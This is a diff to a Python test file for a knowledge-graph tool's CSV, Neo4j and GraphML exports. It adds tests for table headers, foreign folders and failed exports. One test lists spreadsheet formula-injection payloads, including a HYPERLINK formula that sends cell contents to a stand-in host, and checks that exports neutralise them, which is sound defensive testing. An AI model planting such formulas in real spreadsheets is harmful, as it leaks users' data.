@@ -6,6 +6,7 @@ import csv
 import json
 from dataclasses import replace
 from pathlib import Path
+from typing import Any
 
 import networkx as nx
 import pyoxigraph as ox
@@ -13,10 +14,12 @@ import pytest
 from fact_cases import GUANGZHOU, SHENZHEN, guangzhou, shenzhen
 
 from extractors.model import Qualifier, Reading
-from graph.exports import COLUMNS, WRITERS, export
+from graph.exports import COLUMNS, FOLDERS, WRITERS, export
+from graph.facts import Entity, Evidence, Fact, Figure, Period, digest
 from graph.store import KnowledgeGraph
+from graph.tablefiles import FILES
 from graph.triples import from_quads
-from ontologies.errors import NotFound, UnknownFormat
+from ontologies.errors import ForeignFolder, NotFound, UnknownFormat
 
 
 @pytest.fixture(scope="module")
@@ -30,6 +33,14 @@ def written(graph: KnowledgeGraph, folder: Path, suffix: str) -> Path:
     path = folder / f"graph{suffix}"
     export(graph, path)
     return path
+
+
+def evidence_lines(path: Path) -> list[dict[str, Any]]:
+    """The lines that `zhitu extract` would print; those of documents and the like stand behind them."""
+    lines = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
+    rows = [line for line in lines if "relation" in line]
+    assert lines[: len(rows)] == rows
+    return rows
 
 
 @pytest.mark.parametrize("suffix", WRITERS)
@@ -103,7 +114,7 @@ def test_characters_that_xml_cannot_write_become_spaces(suffix: str, tmp_path: P
 
 
 def test_rows_are_lines_of_extract(graph: KnowledgeGraph, tmp_path: Path) -> None:
-    rows = [json.loads(line) for line in written(graph, tmp_path, ".jsonl").read_text(encoding="utf-8").splitlines()]
+    rows = evidence_lines(written(graph, tmp_path, ".jsonl"))
     needed = "document source subject subject_type subject_label relation object object_type object_label modality"
     needed += " negated time quantity start end quote extractor confidence"
     texts = {GUANGZHOU.id: GUANGZHOU.text, SHENZHEN.id: SHENZHEN.text}
@@ -139,7 +150,7 @@ def test_every_export_tells_conditions_and_exceptions(tmp_path: Path) -> None:
     [first, *others] = guangzhou().statements
     graph = KnowledgeGraph()
     graph.add(Reading(GUANGZHOU, (), (first._replace(condition=condition, exception=exception), *others)))
-    rows = [json.loads(line) for line in written(graph, tmp_path, ".jsonl").read_text(encoding="utf-8").splitlines()]
+    rows = evidence_lines(written(graph, tmp_path, ".jsonl"))
     assert [(row["condition"], row["exception"]) for row in rows if row["condition"]] == [("自2013年", "地方政府")]
     assert sum(row["condition"] is None for row in rows) == len(others)
     with written(graph, tmp_path, ".csv").open(encoding="utf-8-sig", newline="") as file:
@@ -169,3 +180,69 @@ def test_suffixes_may_be_capitals_and_folders_must_exist(graph: KnowledgeGraph, 
 def test_an_empty_graph_can_be_written(tmp_path: Path) -> None:
     for suffix in WRITERS:
         written(KnowledgeGraph(), tmp_path, suffix)
+
+
+@pytest.mark.parametrize("suffix", FOLDERS)
+def test_tables_have_the_headers_that_programs_import(suffix: str, graph: KnowledgeGraph, tmp_path: Path) -> None:
+    tables = {}
+    for name in FILES[:3]:
+        path = written(graph, tmp_path, suffix) / name
+        with path.open(encoding="utf-8", newline="") as file:
+            tables[name] = list(csv.DictReader(file))
+    nodes, edges, documents = tables.values()
+    if suffix == ".neo4j":
+        assert {"id:ID(Entity)", ":LABEL", "aliases:string[]"} <= set(nodes[0])
+        assert {":START_ID(Entity)", ":END_ID(Entity)", ":TYPE", "value:double", "valid_from:date"} <= set(edges[0])
+        assert {row[":LABEL"] for row in documents} == {"Article"}
+        [office] = [row for row in nodes if row["id:ID(Entity)"] == "440100-gov"]
+        assert (office[":LABEL"], office["aliases:string[]"]) == ("Government", "市政府;广州市政府")
+        ends = {row[end] for row in edges for end in (":START_ID(Entity)", ":END_ID(Entity)")}
+        assert ends == {row["id:ID(Entity)"] for row in nodes}
+        assert {row[":TYPE"] for row in edges} == {fact.relation for fact in graph.facts()}
+    else:
+        assert {"Id", "Label"} <= set(nodes[0])
+        assert {"Source", "Target", "Type", "Id", "Label"} <= set(edges[0])
+        assert {row["Type"] for row in edges} == {"Directed"}
+        assert {row[end] for row in edges for end in ("Source", "Target")} == {row["Id"] for row in nodes}
+
+
+@pytest.mark.parametrize("suffix", [".csv", *FOLDERS])
+def test_no_cell_is_a_formula(suffix: str, tmp_path: Path) -> None:
+    formula = '=HYPERLINK("http://a/?"&A1)'
+    hostile = [formula, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1"]
+    graph = KnowledgeGraph()
+    for text in hostile:
+        city, system = Entity(digest(text), text, "Place", (formula,)), Entity("5b0e", "制度", "System")
+        passage = Evidence(digest(text), 0, 1, text, text, 0.5, text, text)
+        figure = Figure(text, -1.5, text)
+        graph.add(Fact(city, "adopts", system, time=Period(text), quantity=figure, evidence=(passage,), condition=text))
+    path = written(graph, tmp_path, suffix)
+    for file in [path] if path.is_file() else [path / name for name in FILES[:3]]:
+        with file.open(encoding="utf-8-sig", newline="") as opened:
+            cells = [cell for row in csv.reader(opened) for cell in row]
+        assert not [cell for cell in cells if cell[:1] in set("=+@\t\r＝")]
+        assert {cell for cell in cells if cell.startswith("-")} <= {"-1.5"}  # a number is no formula
+        if file.name != FILES[2]:
+            assert f"'{formula}" in cells
+
+
+def test_a_folder_of_others_is_left_alone(graph: KnowledgeGraph, tmp_path: Path) -> None:
+    (tmp_path / "graph.neo4j").mkdir()
+    (tmp_path / "graph.neo4j" / "mine.csv").touch()
+    with pytest.raises(ForeignFolder, match="holds files that zhitu export did not write"):
+        written(graph, tmp_path, ".neo4j")
+    assert [path.name for path in (tmp_path / "graph.neo4j").iterdir()] == ["mine.csv"]
+    assert [path.name for path in tmp_path.iterdir()] == ["graph.neo4j"]
+    (tmp_path / "graph.neo4j" / "mine.csv").rename(tmp_path / "graph.neo4j" / FILES[0])
+    assert {path.name for path in written(graph, tmp_path, ".neo4j").iterdir()} == {*FILES}
+
+
+def test_an_export_that_fails_leaves_the_file_that_was_there(
+    graph: KnowledgeGraph, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    before = written(graph, tmp_path, ".graphml").read_bytes()
+    monkeypatch.setattr(KnowledgeGraph, "documents", lambda self: 1 // 0)
+    with pytest.raises(ZeroDivisionError):
+        written(graph, tmp_path, ".graphml")
+    assert (tmp_path / "graph.graphml").read_bytes() == before
+    assert len(list(tmp_path.iterdir())) == 1
